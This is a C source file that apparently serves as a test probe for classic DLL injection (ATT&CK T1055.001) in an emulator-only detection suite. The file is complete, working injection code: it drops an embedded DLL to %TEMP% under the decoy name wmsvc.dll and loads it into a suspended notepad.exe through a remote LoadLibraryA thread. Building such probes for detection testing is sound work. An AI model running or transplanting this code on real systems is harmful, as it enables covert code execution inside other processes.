/*
 * injector.c - probe: classic DLL injection, T1055.001 (benign, emulator-only; see
 * ../../lineage-common/common.h).
 *
 * Drops the DLL embedded in its data to %TEMP%\wmsvc.dll, starts notepad.exe suspended, writes
 * the DLL's PATH into it (VirtualAllocEx + WriteProcessMemory) and starts a remote thread at
 * LoadLibraryA (its address from GetProcAddress, the same in every process) with the path as
 * its parameter: notepad's loader maps the DLL and calls its DllMain.
 * Exit codes: 0 ok, 1 no marker, 2 drop, 3 process, 4 memory, 5 thread.
 */
#include "common.h"
#include "blobs.h" /* implant_dll[]: the DLL */

void Entry(void)
{
    static char cmd[] = "C:\\Windows\\System32\\notepad.exe";
    char path[MAX_PATH + 16];
    STARTUPINFOA si;
    PROCESS_INFORMATION pi;
    unsigned char *si_bytes = (unsigned char *)&si;
    void *remote;
    SIZE_T written;
    DWORD i, n, wrote;
    HANDLE f, thread;
    FARPROC load;

    if (!marker_present())
        ExitProcess(1);
    n = GetTempPathA(MAX_PATH, path);
    if (n == 0 || n > MAX_PATH)
        ExitProcess(2);
    if (path[n - 1] != '\\')
        path[n++] = '\\';
    copy_str(path + n, "wmsvc.dll", 16);
    f = CreateFileA(path, GENERIC_WRITE, 0, 0, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, 0);
    if (f == INVALID_HANDLE_VALUE || !WriteFile(f, implant_dll, sizeof(implant_dll), &wrote, 0))
        ExitProcess(2);
    CloseHandle(f);
    for (i = 0; i < sizeof(si); i++)
        si_bytes[i] = 0;
    si.cb = sizeof(si);
    if (!CreateProcessA(0, cmd, 0, 0, FALSE, CREATE_SUSPENDED, 0, 0, &si, &pi))
        ExitProcess(3);
    remote = VirtualAllocEx(pi.hProcess, 0, 0x1000, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!remote)
        ExitProcess(4);
    for (n = 0; path[n]; n++)
        ;
    if (!WriteProcessMemory(pi.hProcess, remote, path, n + 1, &written))
        ExitProcess(4);
    load = GetProcAddress(GetModuleHandleA("kernel32.dll"), "LoadLibraryA");
    thread = CreateRemoteThread(pi.hProcess, 0, 0, (LPTHREAD_START_ROUTINE)(void *)load, remote, 0, 0);
    if (!thread)
        ExitProcess(5);
    WaitForSingleObject(thread, INFINITE);
    CloseHandle(thread);
    CloseHandle(pi.hThread);
    CloseHandle(pi.hProcess);
    ExitProcess(0);
}
